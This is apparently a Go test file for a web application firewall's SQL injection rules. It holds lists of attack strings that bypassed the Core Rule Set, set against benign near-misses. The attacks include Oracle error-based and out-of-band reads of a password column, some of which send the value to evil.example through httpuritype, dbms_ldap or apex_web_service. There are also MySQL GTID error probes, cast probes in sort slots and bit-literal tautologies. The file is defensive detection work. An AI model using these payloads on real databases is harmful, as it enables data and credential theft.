package waf

import (
	"strings"
	"testing"
)

// oracleCallAttacks are attack 74's Oracle error-based and out-of-band
// reads of a column, with no subquery, in a string slot and in a sort
// slot (the whole value): each passed the CRS and the gateway.
var oracleCallAttacks = []string{
	"x' and 1=ordsys.ord_dicom.getmappingxpath(password,user,user)--", "x'||ordsys.ord_dicom.getmappingxpath(password,user,user)||'",
	"x' and 1=dbms_xdb_version.checkin(password)--", "x'||dbms_xdb_version.checkin(password)||'", "x'||dbms_xdb_version.makeversioned(password)||'",
	"x'||ctxsys.ctx_report.token_type(password,user)||'", "x'||sys.dbms_aw_xml.readawmetadata(password,null)||'",
	// out of band
	"x'||dbms_ldap.init(password||'.evil.example',389)||'", "x'||httpuritype('http://evil.example/'||password).getclob()||'",
	"x'||httpuritype(password||'.evil.example').getclob()||'",
	// a sort slot's whole value
	"ordsys.ord_dicom.getmappingxpath(password,user,user)", "dbms_xdb_version.checkin(password)", "ctxsys.ctx_report.token_type(password,user)",
	"name,dbms_xdb_version.checkin(password)",
	// spellings: case, comments and quoted parts, the other URI types, a
	// package the CRS does not name
	"x'||DBMS_XDB_VERSION.CHECKIN(password)||'", "x'||dbms_xdb_version.checkin/**/(password)||'", "x'||dbms_xdb_version.checkin --\n(password)||'",
	`x'||"SYS"."DBMS_AW_XML"."READAWMETADATA"(password,null)||'`, "x'||xdburitype(password).getclob()||'", "x'||dburitype(password).getclob()||'",
	"x'||dbms_xmlgen.getxml(password)||'", "x'||mdsys.sdo_util.to_gmlgeometry(password)||'",
	// public synonyms with no schema, white space around the dots
	"x'||ctx_report.token_type(password,user)||'", "x'||ord_dicom.getmappingxpath(password,user,user)||'", "x'||dbms_xdb_version . checkin(password)||'",
	"x'||sys . dbms_aw_xml . readawmetadata(password,null)||'", "x'||apex_web_service.make_rest_request('http://evil.example/'||password,'GET')||'",
	// a review: after CASE, and a database link before the bracket
	"x' and 1=case dbms_xdb_version.checkin(password) when 1 then 1 end", "name, case dbms_xdb_version.checkin(password) when 'a' then 1 end",
	"x'||dbms_xdb_version.checkin@loopback(password)||'", "x'||dbms_xdb_version.checkin @ loopback.example.com (password)||'"}

// oracleCallCRS are calls the CRS refuses already: of the packages it
// names (utl_http, utl_inaddr, dbms_pipe, ctxsys.drithsx, read by
// libinjection after the quote), or after UNION SELECT (942190); rule
// 210101 reads them now too.
var oracleCallCRS = []string{"x'||utl_http.request(password)||'", "x'||utl_inaddr.get_host_address(password)||'",
	"x'||dbms_pipe.receive_message(password,1)||'", "x'||ctxsys.drithsx.sn(user,password)||'", "utl_http.request(password)",
	"x' union select dbms_xdb_version.checkin(password) from dual--"}

// oracleCallBenign are near-misses: prose and code that name the packages
// without calling them, or call something else.
var oracleCallBenign = []string{"use DBMS_STATS to gather statistics", "the UTL_FILE package", "dbms_xdb_version.checkin is an Oracle package",
	"Run DBMS_STATS.GATHER_SCHEMA_STATS('HR') nightly", "sys.exit(1)", "import sys; sys.stdout.write(x)", "ordsys is the Multimedia schema",
	"CTXSYS owns Oracle Text", "httpuritype is a type", "see utl_http.request in the docs", "the dbms crashed", "xdb.connect(url)",
	"my_dbms_x.f(1)", "utl_ is a prefix", "ord_items.push(x)", "sdo_util is Spatial's", "the UTL_FILE package. (It writes files.)",
	// a review: Oracle's everyday packages and applications' own
	"Is DBMS_CRYPTO.HASH(src, 2) deterministic?", "Then DBMS_OUTPUT.PUT_LINE(v) prints it", "- DBMS_OUTPUT.PUT_LINE('Hello')", "result = dbms_client.query(sql)", "x = utl_functions.parse(data)",
	"q = ctx_query.count(x)", "x = dbms_random.value(1, 10)", "In case DBMS_STATS.GATHER_TABLE_STATS('HR', 'T') fails"}

// oracleCallBenignCRS are near-misses the CRS refuses (its SQL function
// names with a bracket), so they are not run through Caddy: the operator
// passes them.
var oracleCallBenignCRS = []string{"In DBMS_LOB.SUBSTR(clob, n, 1) the offset is 1-based", "Oracle docs on DBMS_LOB.SUBSTR(clob, n, 1) say"}

// TestOraclePackageCall: rule 210101 refuses oracleCallAttacks through a
// real Caddy (in the query and in JSON), and no near-miss.
func TestOraclePackageCall(t *testing.T) {
	for _, v := range oracleCallBenignCRS {
		if oracleFunction(v) {
			t.Errorf("210101 matches the benign %q", v)
		}
	}
	operatorTable(t, "210101", oracleFunction, oracleCallAttacks, oracleCallCRS, oracleCallBenign)
}

// gtidAttacks are attack 74's MySQL GTID-set reads (the error quotes the
// argument): in a string slot and after a comma of a sort list. The sort
// slot's whole value is rule 210202's (TestSortListProbe).
var gtidAttacks = []string{"x' and 1=gtid_subtract(password,1)--", "name asc, gtid_subtract(password,1)", "1 and gtid_subtract(password,'')",
	"x' or wait_for_executed_gtid_set(password)--", "x' and 1=GTID_SUBTRACT (password,1)--",
	// a review: bitwise and arithmetic operators, LIKE and REGEXP, line
	// comments, the fourth function
	"x'+gtid_subtract(password,1)+'", "x'|gtid_subtract(password,1)|'", "x'^gtid_subtract(password,1)^'", "x' like gtid_subtract(password,1)--", "x' not like gtid_subtract(password,1)--",
	"x' rlike gtid_subtract(password,1)--", "x'&gtid_subtract(password,1)&'", "x'%gtid_subtract(password,1)%'",
	"x' and#\ngtid_subtract(password,1)--", "x' and gtid_subtract-- \n(password,1)--", "x' and -- c\ngtid_subtract#c\n(password,1)--",
	"x' or wait_until_sql_thread_after_gtids(password)--", "x' and 1=case gtid_subtract(password,1) when 1 then 1 end--"}

// gtidBenign are near-misses: the names in prose.
// "GTID_SUBTRACT(a,b) or GTID_SUBSET(a,b)?" is refused: the price.
var gtidBenign = []string{"gtid_subtract returns the GTIDs in one set and not the other", "Use GTID_SUBTRACT(set1, set2) to compare GTID sets",
	"the gtid_executed set", "You can use GTID_SUBTRACT() and WAIT_UNTIL_SQL_THREAD_AFTER_GTIDS() in MySQL 8",
	"my_gtid_subtract(x) and gtid_subtractor(y)"}

// gtidBenignCRS are near-misses the CRS refuses (942151 names
// gtid_subset), so they are not run through Caddy: the operator passes
// them.
var gtidBenignCRS = []string{"You can use GTID_SUBSET() and GTID_SUBTRACT() to compare GTID sets", "see WAIT_UNTIL_SQL_THREAD_AFTER_GTIDS() or GTID_SUBSET( )"}

// TestErrorFunctionGTID: rule 210105 refuses gtidAttacks through a real
// Caddy, and no near-miss (gtid_subset is the CRS's 942151's).
func TestErrorFunctionGTID(t *testing.T) {
	for _, v := range gtidBenignCRS {
		if errorFunction(v) {
			t.Errorf("210105 matches the benign %q", v)
		}
	}
	operatorTable(t, "210105", errorFunction, gtidAttacks, []string{"x' and 1=gtid_subset(password,1)--", "x' regexp gtid_subtract(password,1)--"}, gtidBenign)
}

// sortListAttacks are attack 74's conversions in a sort slot (SQL Server
// and PostgreSQL show the value in the conversion's error), and the
// error functions of rules 210105 and 210101 as a sort slot's whole
// value.
var sortListAttacks = []string{"cast(password as int)", "1,convert(int,password)", "name desc,cast(password as int)",
	"gtid_subtract(password,1)", "st_latfromgeohash(password)", "uuid_to_bin(password)", "name asc, gtid_subtract(password,1)",
	"CAST(password AS INTEGER)", "cast(password as double precision)", "try_cast(password as int)",
	"id desc nulls last, cast(password as int)", "users.name asc, cast(users.password as int)", `"name" desc, cast("password" as int)`,
	"name,parse(password as int)", "name, try_convert(int,password)", "-cast(password as int)", "(cast(password as int))",
	"cast(password as int)--", "cast(password as uuid)", "int4(password)", "name, int8(password) desc",
	// a review: what follows the probe's item is not read, COLLATE,
	// quoted, bracketed, array, reg* and multi-word types, calls of one
	// argument, the bounds
	`cast(password as int), name collate "C"`, "cast(password as int) using <", "cast(password as int) limit 1--", "cast(password as int), name+N'a'",
	`name collate "C", cast(password as int)`, "name collate nocase desc, cast(password as int)", `cast(password as "int4")`, `password::"int4"`,
	"cast(password as [int])", "cast(password as int[])", "cast(password as text[])", "cast(password as regclass)",
	"cast(password as timestamp with time zone)",
	"numeric(password)", "int(password)", "integer(password)", "bigint(password)", "decimal(password)", "real(password)", "bool(password)",
	"name, numeric(password) desc", "((((((((cast(password as int))))))))",
	"gtid_subtract(password," + strings.Repeat(" ", 300) + "1)", "int4(password" + strings.Repeat(" ", 300) + ")",
	"cast(password as numeric(" + strings.Repeat(" ", 300) + "10))", "try_convert(int,password" + strings.Repeat(" ", 300) + ")",
	"name, wait_until_sql_thread_after_gtids(password)"}

// sortListCRS are spellings the CRS refuses already (an opening bracket
// after a word and a comma or arithmetic, PostgreSQL's ::).
var sortListCRS = []string{"name, cast(password as regrole)", "cast(password as timestamp(3) with time zone) desc", "cast(password as pg_catalog.int4)",
	"name, cast(password as numeric(10,2)) desc", "password::int", "name desc, password::INT", "lower(name), cast(password as int)",
	"abs(cast(password as int))", "1*cast(password as int)", "name, cast(password||'' as int)"}

// sortListBenign are near-misses: sort lists with no probe, prose with
// cast and convert, and PostgreSQL-like text that is not.
var sortListBenign = []string{"name desc, price asc", "name", "created_at desc nulls last", "Use cast(x as int) to convert",
	"cast (the actors) as int", "the cast of Dune", "cast(x as signed)", "convert(password using utf8)",
	"std::string", "Cast(Bob as King)", "price (desc)", "sort by cast(price as int)",
	"1,2,3", "f(x), g(y)",
	// a review: OData, common sort lists, casts to text, shaders'
	// vectors
	"cast(name as character varying)", "cast(name as varchar(20)) desc",
	"float4(1, 0, 0, 1)", "int(a, b)", "cast(x as text), name collate \"C\" desc", "price:asc", "-created_at,name", "cast", "(((((((name)))))))"}

// sortListBenignCRS are near-misses the CRS (or another rule) refuses,
// so they are not run through Caddy: the operator passes them.
var sortListBenignCRS = []string{"lower(name), id", "Types::Integer", "ActiveModel::Type::Integer", "name desc, price asc; then id",
	"cast(Rating, Edm.Int32) desc", "length(name) desc", "date(created_at) desc"}

// TestSortListProbe: rule 210202 refuses sortListAttacks through a real
// Caddy (in the query and in JSON), and no near-miss.
func TestSortListProbe(t *testing.T) {
	for _, v := range sortListBenignCRS {
		if sortListProbe(v) {
			t.Errorf("210202 matches the benign %q", v)
		}
	}
	operatorTable(t, "210202", sortListProbe, sortListAttacks, sortListCRS, sortListBenign)
}

// openLiteralAttacks are attack 74's bit- and hex-literal tautologies
// whose last quote the query closes (every row on MariaDB and SQLite),
// and their spellings.
var openLiteralAttacks = []string{"x' or b'1'=b'1", "x' or x'41'=x'41", "x' or B'1'=B'1", "x' or X'41'=X'41", "x' and b'1'=b'1", "x'||b'1'=b'1",
	"x' or b'1'<>b'0", "x' or 0b1=b'1", "x' or 1=b'1", "x' or x'41' like x'41", "x' or not b'0'=b'1", "x' or b'1' = b'1", "x' or/**/b'1'=b'1",
	"x' or b'1", "x' or x'41", "admin' or b'1'=b'1", "x' or 2-1=b'1", "x' or id>0 or b'1", "x' or true=b'1",
	// a review: bitwise and arithmetic operators, unary ones, NOT LIKE,
	// introducers, a long constant, past sqlExpr's 64 operands
	"x' or b'1'&b'1", "x' or 1|b'1", "x' or b'1'^b'0", "x' or 1+b'0", "x' or -b'1", "x' or ~b'0", "x' or b'0' not like b'1",
	"x' or b'1'=_binary b'1", "x' or _utf8mb4 x'41'=_utf8mb4 x'41", "x' or x'" + strings.Repeat("41", 40) + "'>x'",
	"x' or 1=-b'1", "x' or 1" + strings.Repeat("*1", 70) + "=b'1", "x' or b'1'<<b'1"}

// openLiteralCRS are spellings libinjection (942100) reads: a plain or
// n” string on one side, or a bracket before.
var openLiteralCRS = []string{"x') or (b'1'=b'1", "x' or length(name)>0 and b'1", "x' or 'A'=x'41", "x' or n'A'=x'41", "x' or _latin1'A'=_latin1 x'41"}

// openLiteralBenign are near-misses: prose with quotes, or, and b'/x'.
var openLiteralBenign = []string{"Rock 'n' roll or b'52", "Pick 'A' or b'52", "x'41'", "b'1'", "it's 'fine' or b", "the 'x' or x", "I'd say b'1",
	"he's 5'11", "it's 'fine' or maybe b'1", "Tom's 'car' or my_b'1", "the 'A' or 'B' or maybe x'4"}

// TestOpenLiteralTautology: rule 210179 refuses openLiteralAttacks
// through a real Caddy, and no near-miss.
func TestOpenLiteralTautology(t *testing.T) {
	// closed, the same tautology is libinjection's, and this reading's
	// not (the literal must end the value)
	for _, v := range []string{"x' or b'1'=b'1'--", "x' or x'41'=x'41' or '", "x' or b'1' or so"} {
		if openLiteralTautology(newSQLReader(v)) {
			t.Errorf("210179's open literal reads %q", v)
		}
	}
	operatorTable(t, "210179", tautologySuffix, openLiteralAttacks, openLiteralCRS, openLiteralBenign)
}

// TestCPUBoundAttack74: repetitions of the new readers' shapes through a
// real Caddy cost what any value of their size does.
func TestCPUBoundAttack74(t *testing.T) {
	repeatedJSONUnder(t, "dbms_x.f", "'||dbms_x.f(", "sys.", "\"a\".", "cast(", "cast(a as int),", "(", "a,", "f(", "a::int::", "x||",
		"' or b'1'=", "' or ", "' or (", "')", "0", "b'1", "' or b'1'=b'1", "' or 1 or b'1", "' or 1+1+1+1+1+1+1=b'1", "' or /*x*/ b'1", "' or (((1)))=x'41",
		"'--\nor 1 or b'1", "' or f(1,2) or x'4",
		// a review's readings: GTID calls after comments, links, long
		// literals, introducers, calls of one argument, collations
		"and#\n", " and gtid_subtract-- \n", "|gtid_subtract(", "' or x'4141", "' or _binary ", "int4(a),", "int4(", "cast(a as \"int4\"),",
		"a collate \"C\",", "dbms_xdb.f@a.", "case ", "' or -~", "cast(a as int[]", "x'4")
}

// BenchmarkAttack74: the new readers on 16 KiB of their shapes.
func BenchmarkAttack74(b *testing.B) {
	for _, unit := range []string{"dbms_x.f", "'||dbms_x.f(", "cast(a as int),", "(", "f(", "' or b'1'=", "' or (", "0", "' or 1+1+1+1+1+1+1=b'1", "' or 1 or b'1", "dbms_x . "} {
		v := strings.Repeat(unit, 16384/len(unit))
		b.Run(strings.TrimSpace(unit), func(b *testing.B) {
			for b.Loop() {
				oraclePackageCall(v)
				sortListProbe(v)
				tautologySuffix(v)
			}
		})
	}
}

// FuzzSortListProbe: any value is read without a panic.
func FuzzSortListProbe(f *testing.F) {
	for _, v := range concat(sortListAttacks, sortListBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { sortListProbe(v) })
}

// FuzzOraclePackageCall: any value is read without a panic.
func FuzzOraclePackageCall(f *testing.F) {
	for _, v := range concat(oracleCallAttacks, oracleCallBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { oraclePackageCall(v) })
}

// FuzzOpenLiteralTautology: any value is read without a panic.
func FuzzOpenLiteralTautology(f *testing.F) {
	for _, v := range concat(openLiteralAttacks, openLiteralBenign) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { openLiteralTautology(newSQLReader(v)) })
}

// FuzzErrorFunctionGTID: any value is read without a panic.
func FuzzErrorFunctionGTID(f *testing.F) {
	for _, v := range concat(gtidAttacks, gtidBenign, gtidBenignCRS) {
		f.Add(v)
	}
	f.Fuzz(func(t *testing.T, v string) { errorFunction(v) })
}
